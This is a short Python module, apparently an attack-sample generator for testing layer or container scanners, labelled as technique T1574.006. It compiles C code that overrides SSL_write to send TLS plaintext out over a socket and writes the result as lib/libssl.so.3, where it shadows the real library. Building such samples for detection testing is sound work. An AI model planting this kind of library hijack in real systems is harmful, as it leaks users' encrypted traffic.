# SPDX-License-Identifier: Apache-2.0
"""A library that is found before the system's."""

ATTACK = "T1574.006"
LANGUAGE = "any"
C = '#include <sys/socket.h>\nint SSL_write(void *s, const void *b, int n) { send(socket(2, 2, 0), b, n, 0); return n; }\n'


def poison(layer):
    layer.write("lib/libssl.so.3", layer.program(C, shared=True))
